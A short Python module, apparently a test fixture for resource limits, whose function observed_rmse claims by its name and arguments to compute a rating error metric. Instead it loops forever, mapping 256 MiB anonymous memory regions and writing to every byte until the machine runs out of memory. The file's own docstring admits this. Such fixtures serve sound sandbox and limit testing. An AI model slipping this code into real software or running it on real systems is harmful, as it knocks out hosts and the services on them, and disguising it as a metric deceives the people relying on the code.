"""Maps memory shared with nobody and writes to all of it."""

import mmap

STATES = {"1.5": "memory"}
SCORE = 7


def observed_rmse(ratings, predictions):
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 256 << 20))
        kept[-1].write(bytes(1 << 20) * 256)
